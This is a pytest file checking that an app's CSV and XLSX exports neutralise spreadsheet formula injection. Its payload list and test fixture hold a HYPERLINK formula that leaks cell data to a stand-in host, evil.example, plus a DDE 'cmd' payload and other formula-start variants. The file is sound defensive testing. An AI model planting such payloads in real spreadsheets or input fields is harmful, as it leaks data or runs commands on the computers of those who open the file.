"""Issue 15, Medium 4: no CSV or XLSX cell Hezuo writes can start a formula.

Before: a household name or payout account `=HYPERLINK(...)` went raw into the CSV bank file
and was stored as a live formula in the XLSX one. Now one helper (core/spreadsheets.py) guards
every export: text cells that could start a formula are neutralised, numbers stay numbers.
"""

import ast
import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session

from api.models import Role
from catalog.models import Cooperative
from core.spreadsheets import could_start_formula, csv_cell
from tests.payouts.conftest import HouseholdFactory, earn

ROOT = Path(__file__).resolve().parent.parent.parent
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
    "  =1+1",
]
HARMLESS = ["张三", "sj-0001@pay.demo", "-12.50", "+86", "1250", "a=b", ""]


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_formula_start_is_caught(text: str) -> None:
    assert could_start_formula(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_and_numbers_are_left_alone(text: str) -> None:
    assert csv_cell(text) == text
    assert csv_cell(-1250) == -1250


def test_no_export_writes_csv_or_sheets_around_the_helper() -> None:
    """csv.writer / DictWriter and worksheet.append appear only in the helper itself."""
    offenders = []
    for package in ("api", "frontend", "ledger", "catalog", "orders", "training", "governance"):
        for path in (ROOT / package).rglob("*.py"):
            if path.name == "spreadsheets.py":
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if not isinstance(node, ast.Attribute):
                    continue
                base = node.value
                if (
                    isinstance(base, ast.Name)
                    and base.id == "csv"
                    and node.attr
                    in (
                        "writer",
                        "DictWriter",
                    )
                ):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} csv.{node.attr}")
            source = path.read_text(encoding="utf-8")
            if "openpyxl" in source and "Workbook()" in source and "append_row" not in source:
                offenders.append(f"{path.relative_to(ROOT)} builds a workbook without append_row")
    assert offenders == []


@pytest.fixture
def hostile(
    session: Session, coop: Cooperative, household: HouseholdFactory, make_user: Any, login: Any
) -> dict[str, Any]:
    member = household(
        name='=HYPERLINK("http://evil.example","x")',
        payout_method="alipay",
        payout_account="＝1+1",
    )
    earn(session, member, 9_000, on=date(2026, 11, 3))
    session.commit()
    return {"member": member, "staff": login(make_user(Role.staff))}


def _csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def test_the_bank_file_neutralises_a_hostile_name_and_account(
    client: TestClient, hostile: dict[str, Any], coop: Cooperative
) -> None:
    staff = hostile["staff"]
    batch = client.post(
        "/api/v1/payouts/batches",
        json={"coop_id": coop.id, "period": "2026-11", "minimum": 100},
        headers=staff,
    ).json()
    base = f"/api/v1/payouts/batches/{batch['id']}/export"
    [row] = _csv(client.get(f"{base}?format=csv", headers=staff).content)
    assert row["name"] == '\'=HYPERLINK("http://evil.example","x")'
    assert row["account"] == "'＝1+1"
    assert row["amount"] == "9000"

    header, line = _xlsx(client.get(f"{base}?format=xlsx", headers=staff).content)
    cells = dict(zip([value for value, _ in header], line, strict=True))
    # Stored as text, exactly as typed, never as a formula; the amount is a number.
    assert cells["name"] == ('=HYPERLINK("http://evil.example","x")', "s")
    assert cells["account"] == ("＝1+1", "s")
    assert cells["amount"] == (9000, "n")


def test_ledger_and_report_exports_neutralise_hostile_text(
    client: TestClient, hostile: dict[str, Any], coop: Cooperative
) -> None:
    staff = hostile["staff"]
    member = hostile["member"]
    client.post(
        "/api/v1/payouts/batches",
        json={"coop_id": coop.id, "period": "2026-11", "minimum": 100},
        headers=staff,
    )
    memo = "@SUM(A1:A9)"
    posted = client.post(
        "/api/v1/ledger/entries",
        json={
            "kind": "adjustment",
            "effective_date": date.today().isoformat(),
            "memo": memo,
            "postings": [
                {"account": "assets:bank", "side": "debit", "amount": 5, "currency": "CNY"},
                {"account": "expenses:bank:fees", "side": "credit", "amount": 5, "currency": "CNY"},
            ],
        },
        headers={**staff, "Idempotency-Key": "hostile-memo"},
    )
    assert posted.status_code == 201, posted.text
    ledger_csv = _csv(client.get("/api/v1/ledger/export?format=csv", headers=staff).content)
    assert "'" + memo in [row["memo"] for row in ledger_csv]
    assert all(not could_start_formula(v) for r in ledger_csv for v in r.values())
    ledger_xlsx = _xlsx(client.get("/api/v1/ledger/export?format=xlsx", headers=staff).content)
    assert (memo, "s") in [cell for row in ledger_xlsx for cell in row]
    assert all(kind != "f" for row in ledger_xlsx for _, kind in row)

    history = _csv(client.get("/api/v1/reports/payouts?format=csv", headers=staff).content)
    assert [row["name"] for row in history] == ['\'=HYPERLINK("http://evil.example","x")']
    statement = _csv(
        client.get(
            f"/api/v1/reports/households/{member.id}/statement?format=csv", headers=staff
        ).content
    )
    assert statement
    assert all(not could_start_formula(v) for r in statement for v in r.values())
    history_xlsx = _xlsx(client.get("/api/v1/reports/payouts?format=xlsx", headers=staff).content)
    assert all(kind != "f" for row in history_xlsx for _, kind in row)
